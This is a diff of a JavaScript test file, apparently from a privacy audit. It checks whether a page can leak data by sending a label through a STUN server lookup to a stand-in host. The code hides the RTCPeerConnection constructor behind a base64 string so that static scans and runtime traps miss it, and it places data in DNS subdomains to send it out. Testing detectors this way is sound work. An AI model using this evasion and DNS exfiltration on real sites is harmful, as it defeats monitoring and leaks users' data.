@@ -3,7 +3,7 @@
 // <link rel=dns-prefetch> would not do: Chromium does not resolve hints for pages behind a proxy). The
 // constructor is reached indirectly, as in rtc-indirect.js, so neither the static scan nor the runtime trap
 // sees it. Inside the audit's namespace the resolver is the namespace's own address: nothing leaves it.
-const Peer = window[atob('UlRDUGVlckNvbm5lY3Rpb24=')].prototype.constructor;
+const Peer = window[window.atob('UlRDUGVlckNvbm5lY3Rpb24=')].prototype.constructor;
 const lookUp = (label) => {
   const peer = new Peer({ iceServers: [{ urls: `stun:${label}.leak.imglio-audit.invalid:3478` }] });
   peer.createDataChannel('x');
